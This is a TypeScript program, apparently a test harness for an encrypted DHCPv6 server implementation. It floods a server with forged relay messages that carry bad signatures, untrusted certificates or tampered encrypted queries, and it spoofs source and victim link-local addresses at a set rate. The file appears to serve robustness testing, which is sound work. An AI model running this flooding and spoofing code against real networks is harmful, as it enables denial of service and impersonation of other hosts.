// SPDX-License-Identifier: MPL-2.0

/**
 * An attacker: messages that no server should accept, at a rate, as a program of its own for a network namespace. It
 * poses as a relay agent, so that a message can come from whoever it likes, and sends from addresses of others' besides.
 *
 * Arguments: one JSON text, see {@link FloodOptions}. It prints `flooding` after the first, and as JSON, when it is told
 * to end by SIGTERM, a {@link FloodResult}.
 */
import { randomBytes, randomInt } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { join } from 'node:path';
import type * as cryptoRoom from '../../../src/crypto';
import type * as pkiRoom from '../../../src/pki';
import type * as protocolRoom from '../../../src/protocol';

/** A link-local address of an interface. */
export interface OnLink {
  readonly address: string;
  readonly interface: string;
}

export interface FloodOptions {
  /** The directory that holds the compiled rooms. */
  readonly dist: string;
  /** The server's address. */
  readonly server: string;
  /** The link that the requests are said to come from, 16 octets in hexadecimal. */
  readonly linkAddress: string;
  /** A certificate that leads to no trust anchor of the server's, and its key. */
  readonly certificate: string;
  readonly privateKey: string;
  /** Of shown Encrypted-Requests. `signature`: it is wrong. `path`: it is right, and the certificate is not. */
  readonly flaw: 'signature' | 'path';
  /** `one` peer-address for all, or another for each of `many`. */
  readonly sources: 'one' | 'many';
  /**
   * Every other message is an opening query that is encrypted to the server's key and does not verify; and of both kinds
   * every other comes from the victim's address itself. Default: shown Encrypted-Requests by a relay alone.
   */
  readonly link?: { readonly attacker: OnLink; readonly victim: OnLink };
  /** A second. */
  readonly rate: number;
}

export interface FloodResult {
  readonly sent: number;
  /** Messages a second. */
  readonly rate: number;
}

interface Rooms {
  readonly crypto: typeof cryptoRoom;
  readonly pki: typeof pkiRoom;
  readonly protocol: typeof protocolRoom;
}

const CLIENT_PORT = 546;
const SERVER_PORT = 547;
const GROUP = 'ff02::1:2';
/** Each octet of the context identifier in the query that is forged anew. */
const IDENTIFIER = 0xc1;
const TICK = 5;
const RELAY_FORWARD = 12;
const RELAY_HEADER = 34;
const OPTION_RELAY_MESSAGE = 9;

/** A Relay-forward (RFC 8415 section 9.1) with nothing but the message. */
function relayed(linkAddress: Buffer, peer: Buffer, message: Buffer): Buffer {
  const header = Buffer.alloc(RELAY_HEADER + 4);
  header.writeUInt8(RELAY_FORWARD, 0);
  linkAddress.copy(header, 2);
  peer.copy(header, 18);
  header.writeUInt16BE(OPTION_RELAY_MESSAGE, RELAY_HEADER);
  header.writeUInt16BE(message.length, RELAY_HEADER + 2);
  return Buffer.concat([header, message]);
}

function peerAddress(sources: FloodOptions['sources']): Buffer {
  const prefix = Buffer.from('fe80000000000000', 'hex');
  return Buffer.concat([prefix, sources === 'one' ? Buffer.from('00000000000bad01', 'hex') : randomBytes(8)]);
}

/** Sends to all servers of a link, from one of its addresses. */
async function onLink({ address, interface: name }: OnLink, port: number): Promise<Socket> {
  const socket = createSocket('udp6');
  const listening = once(socket, 'listening');
  socket.bind(port, `${address}%${name}`);
  await listening;
  socket.setMulticastInterface(`::%${name}`);
  return socket;
}

/** Asks for the server's key, as anybody may, and encrypts to it what proves nothing. */
async function openingQuery(rooms: Rooms, attacker: OnLink): Promise<Buffer> {
  const { protocol, crypto, pki } = rooms;
  const { defaultCodePoints, KemId } = protocol;
  const socket = await onLink(attacker, CLIENT_PORT);
  const question = { transactionId: randomInt(0x100_0000), kemList: [KemId.X25519] };
  const request = protocol.encodeEncryptedRequest(defaultCodePoints, question);
  const answered = once(socket, 'message') as Promise<[Buffer]>;
  const ask = (): void => socket.send(request, SERVER_PORT, `${GROUP}%${attacker.interface}`);
  const asking = setInterval(ask, 1000);
  ask();
  const [octets] = await answered;
  clearInterval(asking);
  socket.close();
  const reply = protocol.decodeServerAnswer(defaultCodePoints, 'encrypted-reply', octets);
  if (reply.kind !== 'announcement') {
    throw new Error('no announcement');
  }
  const { kemId, publicKey } = reply.encryptionKey;
  const kem = crypto.kemById(kemId);
  const server = {
    serverIdentifier: reply.serverIdentifier,
    serverKeyId: pki.EndEntity.parse(reply.credential.certificates[0] ?? Buffer.alloc(0)).keyId,
    encryptionKey: kem.deserializePublicKey(publicKey),
  };
  const context = new protocol.QueryContext(defaultCodePoints, server, {
    own: kem.generateKeyPair(randomBytes),
    clientKeyId: randomBytes(32),
    contextIdentifier: Buffer.alloc(protocol.CONTEXT_IDENTIFIER_LENGTH, IDENTIFIER),
  });
  // As long as one with a certificate inside.
  return context.seal({ msgType: 1, transactionId: 0, options: [{ code: 65_000, data: Buffer.alloc(800) }] });
}

async function main(options: FloodOptions): Promise<void> {
  const room = (name: string): Promise<unknown> => import(join(options.dist, name, 'index.js'));
  const rooms: Rooms = {
    crypto: (await room('crypto')) as typeof cryptoRoom,
    pki: (await room('pki')) as typeof pkiRoom,
    protocol: (await room('protocol')) as typeof protocolRoom,
  };
  const { defaultCodePoints, encodeEncryptedRequest, KemId } = rooms.protocol;
  const { certificate, privateKey, flaw, sources, rate, server, link } = options;
  const identity = rooms.pki.loadIdentity({ certificate, privateKey, purpose: 'client', now: Date.now() });
  const signer = { key: identity.privateKey, chain: identity.chain };
  const linkAddress = Buffer.from(options.linkAddress, 'hex');
  const shown = (): Buffer =>
    encodeEncryptedRequest(
      defaultCodePoints,
      { transactionId: randomInt(0x100_0000), kemList: [KemId.X25519] },
      { signer, timestamp: rooms.crypto.ntpFromUnixMilliseconds(Date.now()) },
    );
  let template = shown();
  setInterval(() => (template = shown()), 1000);
  // Of another transaction than the one that was signed: that costs the attacker nothing.
  const forgedRequest = (): Buffer => {
    const request = Buffer.from(template);
    request.writeUIntBE(randomInt(0x100_0000), 1, 3);
    return request;
  };
  const opening = link && (await openingQuery(rooms, link.attacker));
  const identifierAt =
    opening?.indexOf(Buffer.alloc(rooms.protocol.CONTEXT_IDENTIFIER_LENGTH, IDENTIFIER)) ?? 0;
  // Another context than the one that was sealed, so that the tag does not verify.
  const forgedQuery = (): Buffer => {
    const query = Buffer.from(opening ?? '');
    query.writeUIntBE(randomInt(0x100_0000), 1, 3);
    randomBytes(rooms.protocol.CONTEXT_IDENTIFIER_LENGTH).copy(query, identifierAt);
    return query;
  };
  const relay = createSocket('udp6');
  const elsewhere = (message: Buffer): void =>
    relay.send(relayed(linkAddress, peerAddress(sources), message), SERVER_PORT, server);
  const victim = link && (await onLink(link.victim, 0));
  const inName = (message: Buffer): void =>
    victim?.send(message, SERVER_PORT, `${GROUP}%${link?.victim.interface ?? ''}`);
  const request = flaw === 'path' ? shown : forgedRequest;
  const turns =
    link === undefined
      ? [(): void => elsewhere(request())]
      : [
          (): void => elsewhere(forgedQuery()),
          (): void => inName(forgedQuery()),
          (): void => elsewhere(request()),
          (): void => inName(request()),
        ];
  const began = performance.now();
  const seconds = (): number => (performance.now() - began) / 1000;
  let due = 0;
  let sent = 0;
  setInterval(() => {
    const last = Math.floor(seconds() * rate);
    // What could not be sent in time is not made up for.
    for (due = Math.max(due, last - rate); due < last; due += 1, sent += 1) {
      turns[due % turns.length]?.();
      if (sent === 0) {
        process.stdout.write('flooding\n');
      }
    }
  }, TICK);
  process.once('SIGTERM', () => {
    const result: FloodResult = { sent, rate: sent / seconds() };
    process.stdout.write(`${JSON.stringify(result)}\n`, () => process.exit(0));
  });
}

if (require.main === module) {
  void main(JSON.parse(process.argv[2] ?? '') as FloodOptions);
}
